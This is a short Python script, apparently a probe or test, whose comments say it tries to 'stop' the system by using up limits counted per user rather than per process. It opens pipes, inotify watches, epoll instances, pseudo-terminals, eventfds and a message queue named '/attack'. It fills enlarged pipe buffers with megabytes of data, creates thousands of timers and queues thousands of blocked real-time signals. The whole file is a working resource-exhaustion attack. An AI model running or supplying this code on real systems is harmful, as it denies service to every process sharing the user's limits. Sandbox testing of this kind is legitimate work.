# tries: stop
# about: uses up what is counted for a user and not for a process: watches, pipes, timers, signals, terminals
# then: nothing

import ctypes, fcntl, os, select, signal

libc, kept = ctypes.CDLL(None), []
for make in (lambda: libc.inotify_init1(0), os.pipe, select.epoll, os.openpty, lambda: os.eventfd(0),
             lambda: libc.mq_open(b"/attack", 0o102, 0o600, None)):
    try:
        for _ in range(150):
            kept.append(make())
    except OSError:
        pass
for pipe in [item for item in kept if isinstance(item, tuple)]:
    try:
        fcntl.fcntl(pipe[0], 1031, 1 << 20)
        os.set_blocking(pipe[1], False)
        os.write(pipe[1], bytes(1 << 20))
    except OSError:
        pass
for _ in range(20000):
    libc.timer_create(1, None, ctypes.byref(ctypes.c_void_p()))
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN})
for _ in range(20000):
    libc.sigqueue(os.getpid(), signal.SIGRTMIN, 0)
